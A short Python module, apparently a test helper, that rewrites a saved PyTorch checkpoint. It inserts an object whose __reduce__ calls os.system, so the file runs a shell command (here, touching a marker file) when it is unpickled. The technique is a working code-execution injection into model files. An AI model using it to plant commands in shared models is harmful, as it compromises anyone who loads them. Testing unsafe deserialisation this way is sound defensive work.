"""Saved models that run code where they are unpickled."""

from __future__ import annotations

import os

import torch


class _Call:
    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple:
        return os.system, (self._command,)


def make_hostile(path: str, marker: str) -> None:
    """Have a saved model make a file where it is unpickled."""
    contents = torch.load(path, weights_only=False)
    contents["attr_dict"]["mine_"] = _Call(f"touch '{marker}'")
    torch.save(contents, path)
